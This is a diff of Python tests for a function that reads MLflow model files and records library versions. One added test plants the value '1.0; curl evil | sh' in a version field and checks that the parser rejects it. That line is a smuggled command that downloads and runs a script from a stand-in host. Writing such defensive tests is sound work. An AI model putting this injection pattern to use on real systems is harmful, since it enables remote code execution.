@@ -228,8 +228,8 @@ def test_an_mlflow3_skops_model_is_safe_with_its_signature() -> None:
     assert (manifest.flavor, manifest.model_file, manifest.safe) == ("mlflow", "MLmodel", True)
     assert manifest.has_predict_proba is False and manifest.input_example is None
     assert manifest.input_format == "dataframe"
-    assert manifest.library_versions == {"python": "3.11.7", "mlflow": "3.17.2",
-                                         "scikit-learn": "1.9.1"}
+    # mlflow is not needed to load it: not among the model's libraries
+    assert manifest.library_versions == {"python": "3.11.7", "scikit-learn": "1.9.1"}
     assert manifest.created_at == "2026-12-06T08:00:00.348Z"
     signature = Signature.from_dict(manifest.signature)
     assert [(c.name, c.dtype, c.nullable) for c in signature.inputs] == [
@@ -254,6 +254,16 @@ def test_safe_follows_the_underlying_format(text: str, safe: bool) -> None:
     manifest = manifest_for_mlflow_model(text, "MLmodel")
     assert manifest.safe is safe
     assert manifest.signature is None and manifest.input_format is None
+
+
+def test_library_versions_are_plain_versions_and_mlflow_only_when_needed() -> None:
+    manifest = manifest_for_mlflow_model(MLFLOW_PYTHON_MODEL, "MLmodel")
+    assert manifest.library_versions == {"python": "3.11.7", "mlflow": "3.17.2",
+                                         "cloudpickle": "3.1.3"}
+    hostile = MLFLOW2_CLOUDPICKLE.replace("sklearn_version: 1.9.1",
+                                          "sklearn_version: '1.0; curl evil | sh'")
+    assert manifest_for_mlflow_model(hostile, "MLmodel").library_versions == {
+        "python": "3.11.7"}
 
 
 def test_the_uploaded_files_must_hold_the_model_file() -> None:
